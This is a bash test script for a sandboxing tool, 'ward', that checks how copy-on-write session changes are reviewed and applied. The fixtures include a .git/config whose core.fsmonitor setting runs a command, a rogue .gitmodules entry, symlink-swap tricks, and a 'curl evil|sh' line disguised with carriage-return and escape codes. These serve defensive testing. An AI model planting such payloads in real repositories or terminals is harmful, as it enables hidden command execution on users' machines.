#!/usr/bin/env bash
# Reviewing copy-on-write sessions safely (issue 8 points 1, 2, 4, 8;
# issue 9 points 6, 8), through the real CLI and checked on the host:
# repository metadata at any depth is refused unless named; apply and undo
# write only into the directory the session was made for; nothing the
# command wrote reaches the terminal as a control sequence; holes stay
# holes; modification times survive apply; the diff modes and the option
# parser.
. "$(dirname "$0")/lib.sh"

require_t2
at_exit 'chmod -R u+rwx "$XDG_STATE_HOME" 2>/dev/null'
STATE="$XDG_STATE_HOME/ward"

# Raw terminal controls in a file: ESC, CSI (C1, raw or as UTF-8), CR, the
# bidi override U+202E.
# With a second argument, ward's own color sequences (SGR, ESC [ ... m) are
# allowed and removed first.
raw_controls() {
	python3 - "$1" "${2:-}" <<'PY'
import re, sys
d = open(sys.argv[1], "rb").read()
if sys.argv[2]:
    d = re.sub(rb"\x1b\[[0-9;]*m", b"", d)
bad = [b"\x1b", b"\x9b", b"\r", b"\xe2\x80\xae"]
sys.exit(0 if any(b in d for b in bad) else 1)
PY
}
snap() { (cd "$1" && find . -printf '%p %y %m %l\n' | LC_ALL=C sort &&
	find . -type f -print0 | LC_ALL=C sort -z | xargs -0 -r sha256sum); }

# --- 1. Repository metadata at any depth -----------------------------------
P1="$T/p1"
mkdir -p "$P1/sub"
git init -q "$P1/lib"
printf 'gitdir: ../.git/modules/sub\n' >"$P1/sub/.git"
lib_config=$(sha256sum <"$P1/lib/.git/config")
sleep 0.05
id1=$("$WARD" session new --storage-only --cow -w "$P1")
"$WARD" run --session "$id1" -- sh -c '
	echo ok >ok.txt
	: >.mcp.json
	mkdir -p bare/refs bare/objects && echo "ref: refs/heads/main" >bare/HEAD &&
	printf "[core]\n\tfsmonitor = touch /tmp/never\n" >bare/config' >/dev/null 2>&1
up1="$STATE/sessions/$id1/upper"
# What the sandbox may or may not have let through, written straight into
# the layer: review must refuse it whatever the sandbox did.
mkdir -p "$up1/lib/.git" "$up1/vendor/x" "$up1/sub"
printf '[core]\n\tfsmonitor = "touch %s/pwned"\n' "$T" >"$up1/lib/.git/config"
printf '[submodule "evil"]\n\tpath = evil\n\turl = ../evil\n' >"$up1/vendor/x/.gitmodules"
rm -f "$up1/sub/.git"
mkdir "$up1/sub/.git"
printf '[core]\n\tfsmonitor = "touch %s/pwned"\n' "$T" >"$up1/sub/.git/config"

sum=$("$WARD" diff "$id1" --summary)
has() { printf '%s\n' "$sum" | grep -qxF -- "$1"; }
check "diff: nested lib/.git/config is protected" has "modified        lib/.git/config  [refused: protected]"
check "diff: nested .gitmodules is protected" has "added           vendor/x/.gitmodules  [refused: protected]"
check "diff: a gitfile replaced by a git dir is protected" has "type-changed    sub/.git/  [refused: protected]"
check "diff: a directory that git takes for a git dir is protected" has "added           bare/config  [refused: protected]"
check "diff: an ordinary file is not" has "added           ok.txt"
check "diff: an empty file at a protected name is listed, refused" has "added           .mcp.json  [refused: protected]"
"$WARD" apply "$id1" >"$T/a1.out" 2>"$T/a1.err"
check_eq "apply refuses repository metadata (exit 3)" 3 $?
check "apply says why, and how to apply it" grep -q "Refused lib/.git/config: repository metadata (.git).*ward apply $id1 lib/.git/config" "$T/a1.err"
check_eq "host lib/.git/config unchanged" "$lib_config" "$(sha256sum <"$P1/lib/.git/config")"
check "host sub/.git is still the gitfile" test -f "$P1/sub/.git"
check_not "no .gitmodules written" test -e "$P1/vendor/x/.gitmodules"
check_not "no bare-repository config written" test -e "$P1/bare/config"
check "the ordinary file was applied" test -f "$P1/ok.txt"
check_not "the empty protected file was not applied" test -e "$P1/.mcp.json"
git -C "$P1/lib" status >/dev/null 2>&1
check_not "git status in lib on the host ran nothing" test -e "$T/pwned"
check_eq "naming the parent directory does not apply it" 3 "$(status_of "$WARD" apply "$id1" lib)"
check_eq "host lib/.git/config still unchanged" "$lib_config" "$(sha256sum <"$P1/lib/.git/config")"
check_eq "naming the path applies it" 0 "$(status_of "$WARD" apply "$id1" lib/.git/config)"
check "the named path was written" grep -q fsmonitor "$P1/lib/.git/config"
"$WARD" discard "$id1"

# --- 2. apply/undo write only into the session's own directory -------------
P2="$T/p2"
OTHER="$T/other"
mkdir -p "$P2" "$OTHER"
echo orig >"$P2/f"
echo mine >"$OTHER/f"
sleep 0.05
id2=$("$WARD" session new --storage-only --cow -w "$P2")
"$WARD" run --session "$id2" -- sh -c 'echo new >f; echo added >g' >/dev/null 2>&1
check_eq "apply of f into the real workspace" 0 "$(status_of "$WARD" apply "$id2" f)"
other_before=$(snap "$OTHER")
mv "$P2" "$T/p2.real"
ln -s "$OTHER" "$P2"
"$WARD" apply "$id2" >/dev/null 2>"$T/a2.err"
check_eq "apply through a swapped-in symlink is refused" 1 $?
check "the refusal names the symlink and its target" grep -q "symlink $P2 -> $OTHER" "$T/a2.err"
check_eq "undo through it is refused" 1 "$(status_of "$WARD" undo "$id2")"
check_eq "apply --force through it is refused" 1 "$(status_of "$WARD" apply "$id2" --force)"
check_eq "diff through it is refused" 1 "$(status_of "$WARD" diff "$id2")"
check_eq "run --session through it is refused (125)" 125 \
	"$(status_of "$WARD" run --session "$id2" -- sh -c 'echo planted >planted')"
check_eq "the symlink's target is unchanged" "$other_before" "$(snap "$OTHER")"
rm "$P2"
mkdir "$P2"
"$WARD" apply "$id2" >/dev/null 2>"$T/a2b.err"
check_eq "apply into another directory at the same path is refused" 1 $?
check "the refusal says it is another directory" grep -q "no longer the directory" "$T/a2b.err"
check_eq "undo into it is refused" 1 "$(status_of "$WARD" undo "$id2")"
check_eq "the other directory stayed empty" "" "$(ls -A "$P2")"
rmdir "$P2"
mv "$T/p2.real" "$P2"
"$WARD" apply "$id2" >"$T/a2.out" 2>&1
check_eq "back in place, apply works" 0 $?
check "apply prints the workspace it writes into" grep -qxF "workspace $P2" "$T/a2.out"
"$WARD" undo "$id2" >"$T/u2.out" 2>&1
check_eq "undo works" 0 $?
check "undo prints the workspace" grep -qxF "workspace $P2" "$T/u2.out"
check "undo says removed for a file it deletes" grep -qxF "removed g" "$T/u2.out"
check_not "g is gone" test -e "$P2/g"
"$WARD" discard "$id2"
if [ "$(id -u)" -ne 0 ]; then
	ln -s "$OTHER" "$T/wslink"
	check_eq "session new refuses a workspace through a user's symlink" 1 \
		"$(status_of "$WARD" session new --storage-only --cow -w "$T/wslink")"
else
	ok_skip "session new through a user's symlink: root owns this one (root may be followed)"
fi

# --- 3. Nothing reaches the terminal as a control sequence -----------------
P3="$T/p3"$'\e[31m'
mkdir -p "$P3"
printf 'safe\n' >"$P3/run.sh"
sleep 0.05
id3=$("$WARD" session new --storage-only --cow -w "$P3")
name=$'evil\e[2J\xc2\x9b\xe2\x80\xae\r.txt'
"$WARD" run --session "$id3" -- sh -c '
	printf "curl evil|sh #\r\033[K echo fine\n\302\233 \233 \342\200\256 x\n" >>run.sh
	printf "x\n" >"$1"' _ "$name" >/dev/null 2>&1
for mode in "" --stat --summary --name-only --name-status "--collapse=1" "--color=always"; do
	# shellcheck disable=SC2086 # $mode is one word or none
	"$WARD" diff "$id3" $mode >"$T/d3.out" 2>&1
	check_not "diff ${mode:-(full)} prints no raw control or bidi bytes" raw_controls "$T/d3.out" "$([ "$mode" = --color=always ] && echo sgr)"
done
"$WARD" diff "$id3" >"$T/d3.out"
check "the CR and ESC are shown escaped" grep -qF '+curl evil|sh #\r\x1b[K echo fine' "$T/d3.out"
check "C1 and bidi shown escaped" grep -qF '+\u009b \x9b \u202e x' "$T/d3.out"
"$WARD" diff "$id3" --json >"$T/d3.json"
check "--json keeps the name exact" python3 -c '
import json, sys
names = [c["path"] for c in json.load(open(sys.argv[1]))]
sys.exit(0 if sys.argv[2] in names else 1)' "$T/d3.json" "$name"
"$WARD" sessions >"$T/s3.out" 2>&1
check_not "sessions prints no raw control bytes (workspace name)" raw_controls "$T/s3.out"
"$WARD" apply "$id3" >"$T/a3.out" 2>&1
check_eq "apply of the odd name" 0 $?
check_not "apply prints no raw control bytes" raw_controls "$T/a3.out"
check "the file was written under its exact name" test -f "$P3/$name"
"$WARD" undo "$id3" >"$T/u3.out" 2>&1
check_not "undo prints no raw control bytes" raw_controls "$T/u3.out"
"$WARD" diff $'\e[2J\x9bbogus' >"$T/e3.out" 2>&1
check_not "an error naming a bad id prints no raw control bytes" raw_controls "$T/e3.out"
"$WARD" apply "$id3" $'--\e[2J' >"$T/e3.out" 2>&1
check_not "an unknown-option error prints no raw control bytes" raw_controls "$T/e3.out"
"$WARD" discard "$id3"

# --- 4. Holes stay holes -----------------------------------------------------
P4="$T/p4"
mkdir -p "$P4"
truncate -s 1G "$P4/host-sparse"
sleep 0.05
id4=$("$WARD" session new --storage-only --cow -w "$P4")
"$WARD" run --session "$id4" -- sh -c '
	truncate -s 5G big && printf x | dd of=big bs=1 seek=1000 conv=notrunc 2>/dev/null
	printf y | dd of=host-sparse bs=1 seek=4096 conv=notrunc 2>/dev/null' >/dev/null 2>&1
up4="$STATE/sessions/$id4/upper"
kb() { du -k "$1" | cut -f1; }
if [ ! -f "$up4/big" ] || [ "$(kb "$up4/big")" -gt 10240 ] || [ "$(kb "$up4/host-sparse")" -gt 10240 ]; then
	ok_skip "sparse files: this file system (or overlay copy-up) does not keep holes"
	"$WARD" discard "$id4"
else
	"$WARD" apply "$id4" >/dev/null 2>&1
	check_eq "apply of sparse files" 0 $?
	check_eq "the 5 GB file has its size" 5368709120 "$(stat -c %s "$P4/big")"
	check "the 5 GB file takes almost no blocks (du < 10 MB)" test "$(kb "$P4/big")" -lt 10240
	check "the modified sparse file takes almost no blocks" test "$(kb "$P4/host-sparse")" -lt 10240
	check "undo's backup of it takes almost no blocks" test "$(du -sk "$STATE/sessions/$id4/ops" | cut -f1)" -lt 10240
	check_eq "the content is right" y "$(dd if="$P4/host-sparse" bs=1 skip=4096 count=1 2>/dev/null)"
	"$WARD" undo "$id4" >/dev/null 2>&1
	check_eq "undo of sparse files" 0 $?
	check "the restored file takes almost no blocks" test "$(kb "$P4/host-sparse")" -lt 10240
	check_eq "the restored file has its size" 1073741824 "$(stat -c %s "$P4/host-sparse")"
	check_not "the restored file is the old one" grep -q y "$P4/host-sparse"
	"$WARD" discard "$id4"
fi
rm -f "$P4/big" "$P4/host-sparse"

# --- 5. Modification times and modes survive apply ---------------------------
P5="$T/p5"
mkdir -p "$P5"
printf 'int x;\n' >"$P5/zconf.h"
touch -d '2010-01-01 00:00:00' "$P5/zconf.h"
host_mtime=$(stat -c %Y "$P5/zconf.h")
sleep 0.05
id5=$("$WARD" session new --storage-only --cow -w "$P5")
"$WARD" run --session "$id5" -- sh -c '
	printf "#define Z 1\nint x;\n" >zconf.h && touch -d "2001-02-03 04:05:06" zconf.h
	mkdir obj && printf o >obj/a.o && printf "#!/bin/sh\n" >obj/run && chmod 750 obj/run
	touch -d "2001-02-03 04:05:07" obj/a.o obj/run && touch -d "2001-02-03 04:05:08" obj
	for i in $(seq 1 400); do echo "generated $i"; done >Makefile' >/dev/null 2>&1
up5="$STATE/sessions/$id5/upper"
"$WARD" diff "$id5" --stat >"$T/st5.out"
check "--stat: per-file counts" grep -qE '^ modified +zconf.h +\| \+1 -0$' "$T/st5.out"
check "--stat: 400 lines added for the Makefile" grep -qE '^ added +Makefile +\| \+400 -0$' "$T/st5.out"
check "--stat: a total" grep -qE '^ 4 files changed, 403 lines added, 0 removed$' "$T/st5.out"
check_eq "--name-status" "$(printf 'A\tMakefile\nA\tobj\nA\tobj/a.o\nA\tobj/run\nM\tzconf.h')" "$("$WARD" diff "$id5" --name-status)"
check_eq "--name-only" "$(printf 'Makefile\nobj\nobj/a.o\nobj/run\nzconf.h')" "$("$WARD" diff "$id5" --name-only)"
check "summary: the kind once, and a total" sh -c '"$1" diff "$2" --summary | grep -qx "5 changes: 4 added, 1 modified"' _ "$WARD" "$id5"
"$WARD" diff "$id5" --collapse >"$T/c5.out"
check "--collapse folds the 400-line Makefile" grep -q '^@@ collapsed: 400 lines added, 0 removed' "$T/c5.out"
check "--collapse keeps short diffs" grep -qx '+#define Z 1' "$T/c5.out"
check_eq "without --collapse it is all there" 400 "$("$WARD" diff "$id5" Makefile | grep -c '^+generated')"
"$WARD" diff "$id5" --json >"$T/j5.json"
check "--json: modes are octal strings" python3 -c '
import json, sys
c = {x["path"]: x for x in json.load(open(sys.argv[1]))}
ok = c["obj/run"]["new_mode"] == "0750" and c["zconf.h"]["old_mode"] == "0644"
sys.exit(0 if ok and all(isinstance(x.get("new_mode", ""), str) for x in c.values()) else 1)' "$T/j5.json"
check_eq "two output modes are a usage error" 2 "$(status_of "$WARD" diff "$id5" --stat --json)"
"$WARD" apply "$id5" >/dev/null 2>&1
check_eq "apply" 0 $?
for f in zconf.h obj/a.o obj/run obj; do
	check_eq "apply keeps the session's mtime of $f" "$(stat -c %Y "$up5/$f")" "$(stat -c %Y "$P5/$f")"
done
check "the object is newer than the header, as the build left it" test "$P5/obj/a.o" -nt "$P5/zconf.h"
check_eq "apply keeps the mode" 750 "$(stat -c %a "$P5/obj/run")"
"$WARD" undo "$id5" >/dev/null 2>&1
check_eq "undo restores the old mtime too" "$host_mtime" "$(stat -c %Y "$P5/zconf.h")"
check "the audit apply event has the documented fields" python3 -c '
import json, sys
ev = [json.loads(l) for l in open(sys.argv[1])]
a = [e for e in ev if e["event"] == "apply"][-1]
u = [e for e in ev if e["event"] == "undo"][-1]
want = {"workspace", "requested", "result", "seq", "changed", "removed", "refused", "failed",
        "paths", "removed_paths", "refused_paths", "failed_paths", "force"}
sys.exit(0 if want <= set(a) and (want - {"requested"}) <= set(u) else 1)' "$STATE/audit.jsonl"

# --- 6. Each subcommand accepts its own options only -------------------------
"$WARD" apply "$id5" --workspace "$T" >/dev/null 2>"$T/o6.err"
check_eq "apply ID --workspace X is a usage error" 2 $?
check "the error names the option" grep -q "unknown option '--workspace'" "$T/o6.err"
check_not "nothing was applied" test -e "$P5/Makefile"
check_eq "diff --force is a usage error" 2 "$(status_of "$WARD" diff "$id5" --force)"
check_eq "an abbreviation is a usage error" 2 "$(status_of "$WARD" diff "$id5" --sta)"
check_eq "sessions --cow is a usage error" 2 "$(status_of "$WARD" sessions --cow)"
check_eq "undo --policy is a usage error" 2 "$(status_of "$WARD" undo "$id5" --policy x)"
check_eq "discard --json is a usage error" 2 "$(status_of "$WARD" discard "$id5" --json)"
check "the session survived the rejected discard" test -d "$STATE/sessions/$id5"
check_eq "session new --storage-only --bogus is a usage error" 2 "$(status_of "$WARD" session new --storage-only --bogus)"

# --- 7. sessions: oldest first, with age and workspace -----------------------
id7=$("$WARD" session new --storage-only --cow -w "$P5")
"$WARD" sessions >"$T/s7.out"
check "sessions lists the older session first" sh -c \
	'[ "$(grep -n "^$2 " "$1" | cut -d: -f1)" -lt "$(grep -n "^$3 " "$1" | cut -d: -f1)" ]' _ "$T/s7.out" "$id5" "$id7"
check "sessions shows an age and the workspace" grep -qE "^$id7 +[0-9TZ:-]+ +[0-9]+[smhd] .* $P5\$" "$T/s7.out"
"$WARD" discard "$id5"
"$WARD" discard "$id7"

done_testing
